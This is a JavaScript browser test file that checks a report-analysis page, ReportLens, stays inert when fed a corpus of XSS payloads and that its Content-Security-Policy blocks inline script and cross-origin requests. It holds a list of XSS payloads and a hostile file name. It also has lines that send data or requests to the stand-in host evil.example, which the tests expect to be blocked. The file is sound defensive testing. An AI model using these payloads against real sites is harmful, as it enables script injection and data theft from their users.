// The page under attack: report text is only ever shown as text (a text full of tags is read as
// HTML source, its markup dropped from the view, never rendered). An XSS corpus goes in pasted
// and as files, in plain paragraphs, headings, figure subjects and document elements; nothing
// may run, load or leave the origin. The Content-Security-Policy is present and enforced.

import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { foreign, openPage, paste, start, stop, waitAnalysed } from './harness.mjs';

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">点击查看</a>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '<style>body{display:none}</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>滚动</marquee>',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '<base href="http://evil.example/">',
  '<link rel=stylesheet href="http://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
  '<img src="http://evil.example/track.png">',
  '{{constructor.constructor(\'alert(1)\')()}}',
  'javascript:alert(1)',
  '<form action="http://evil.example/"><button>提交</button></form>',
  '</textarea><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<x onclick=alert(1)>点击</x>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<img src=x:alert(1) onerror=eval(src)>',
];

/** A report that puts the payloads everywhere the page shows report text. */
function hostileReport() {
  const lines = [
    `${PAYLOADS[1]}人民政府`,
    `关于${PAYLOADS[0]}的报告`,
    `${PAYLOADS[2]}：`,
    `一、${PAYLOADS[3]}工作情况`,
    `（一）${PAYLOADS[8]}。受理${PAYLOADS[5]}案件 15件，其中${PAYLOADS[16]}民事 10件，刑事 5件。`,
    ...PAYLOADS.map((p, i) => `${i + 2}. ${p} 共办理事项 ${i + 3}件。`),
    `二、${PAYLOADS[12]}`,
    '海东市平安区人民政府',
    '2024年1月12日',
  ];
  return lines.join('\n');
}

const SHOWN = ['#text', '#meta', '#outline', '#figures', '#checks', '#notes'];

let site;
let browser;
before(async () => ({ site, browser } = await start()));
after(() => stop({ site, browser }));

async function assertInert(session, how) {
  const { page, dialogs, requests, errors } = session;
  await page.waitForTimeout(300); // let any injected handler fire
  assert.deepEqual(dialogs, [], `${how}: no payload may open a dialog`);
  assert.deepEqual(foreign(requests, site.origin), [], `${how}: no request may leave the origin`);
  assert.deepEqual(errors, [], `${how}: no page errors`);
  const injected = await page.evaluate((sel) => {
    const bad = 'script,img,svg,iframe,object,embed,style,link,meta,base,form,input,video,source,details,math,marquee,x,a,noscript,body';
    return sel.flatMap((s) => [...document.querySelectorAll(`${s} :is(${bad})`)].map((e) => `${s} ${e.tagName}`));
  }, SHOWN);
  assert.deepEqual(injected, [], `${how}: report text must not become elements`);
  // Nothing is lost: the input keeps every payload as written. (A text this full of tags is read
  // as a web page's HTML source, so the text view shows it without its markup; a text that is
  // not HTML shows each payload literally, checked below.)
  const input = await page.inputValue('#input');
  for (const p of PAYLOADS) {
    assert.ok(input.includes(p), `${how}: the input should keep the payload as written: ${p}`);
  }
  assert.equal(await page.title(), 'ReportLens 报告透镜', `${how}: the page itself should be intact`);
}

test(`an XSS corpus of ${PAYLOADS.length} payloads, pasted, stays inert`, async () => {
  assert.ok(PAYLOADS.length >= 20, 'the corpus should hold at least 20 payloads');
  const session = await openPage(browser, site.url);
  const text = hostileReport();
  await paste(session.page, text);
  await assertInert(session, 'pasted');
  // Hovering and selecting run the tooltip and selection code over hostile text too.
  const marks = session.page.locator('#text mark[data-f]');
  if ((await marks.count()) > 0) await marks.first().hover();
  const rows = session.page.locator('#figures tbody tr');
  if ((await rows.count()) > 0) await rows.first().click();
  await assertInert(session, 'pasted, then selected');
  await session.context.close();
});

test('the XSS corpus opened as a file stays inert', async () => {
  const session = await openPage(browser, site.url);
  const text = hostileReport();
  await session.page.setInputFiles('#file-input', {
    name: '<img src=x onerror=alert(1)>.txt',
    mimeType: 'text/plain',
    buffer: Buffer.from(text),
  });
  await waitAnalysed(session.page, text.length);
  await assertInert(session, 'as a file');
  const notice = await session.page.textContent('#notice');
  assert.ok(notice.includes('<img src=x onerror=alert(1)>'), 'a hostile file name should be shown literally');
  // A report that quotes one payload in its prose is not HTML: the view shows it literally.
  for (const p of PAYLOADS.slice(0, 3)) {
    const quoted = `${p}\n一、工作情况\n共受理案件5件。`;
    await session.page.setInputFiles('#file-input', { name: 'p.txt', mimeType: 'text/plain', buffer: Buffer.from(quoted) });
    await session.page.waitForFunction((p) => document.getElementById('input').value.startsWith(p), p);
    await waitAnalysed(session.page, quoted.length);
    const shown = (await session.page.textContent('#text')).replace(/\s+/g, '');
    assert.ok(shown.includes(p.replace(/\s+/g, '')), `a payload quoted in plain text should be shown literally: ${p}`);
  }
  await session.page.waitForTimeout(300);
  assert.deepEqual(session.dialogs, [], 'several files: no payload may open a dialog');
  assert.deepEqual(foreign(session.requests, site.origin), [], 'several files: no request may leave the origin');
  await session.context.close();
});

test('the Content-Security-Policy is in place and enforced', async () => {
  const { page, context, requests, failed } = await openPage(browser, site.url, { allowForeign: true });
  const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
  assert.ok(csp, 'the page should carry a Content-Security-Policy');
  for (const directive of ["default-src 'self'", "script-src 'self' 'wasm-unsafe-eval'", "connect-src 'self'", "object-src 'none'"]) {
    assert.ok(csp.includes(directive), `the policy should contain ${directive}`);
  }
  assert.ok(!csp.includes("'unsafe-inline'") && !csp.includes("'unsafe-eval'"), 'the policy should allow no inline script or eval');
  const outcome = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    const s = document.createElement('script');
    s.textContent = 'window.__inline = 1';
    document.head.append(s);
    const button = document.createElement('button');
    button.setAttribute('onclick', 'window.__handler = 1');
    document.body.append(button);
    button.click();
    button.remove();
    let fetched = false;
    try {
      await fetch('http://evil.example/collect', { method: 'POST', body: 'text' });
      fetched = true;
    } catch {
      fetched = false;
    }
    const img = new Image();
    img.src = 'http://evil.example/pixel.png';
    await new Promise((r) => setTimeout(r, 200));
    return { inline: window.__inline === 1, handler: window.__handler === 1, fetched, violations };
  });
  assert.equal(outcome.inline, false, 'an injected inline script should not run');
  assert.equal(outcome.handler, false, 'an inline event handler should not run');
  assert.equal(outcome.fetched, false, 'a request to another origin should be refused');
  assert.ok(outcome.violations.length >= 3, `the policy should report violations, got ${outcome.violations}`);
  // The attempts show up as requests that the browser blocked before they reached the network.
  const blocked = new Set(failed.filter((f) => /blocked|csp/i.test(f.error || '')).map((f) => f.url));
  const escaped = foreign(requests, site.origin).filter((u) => !blocked.has(u));
  assert.deepEqual(escaped, [], `every request to another origin should be blocked (failed: ${JSON.stringify(failed)})`);
  await context.close();
});
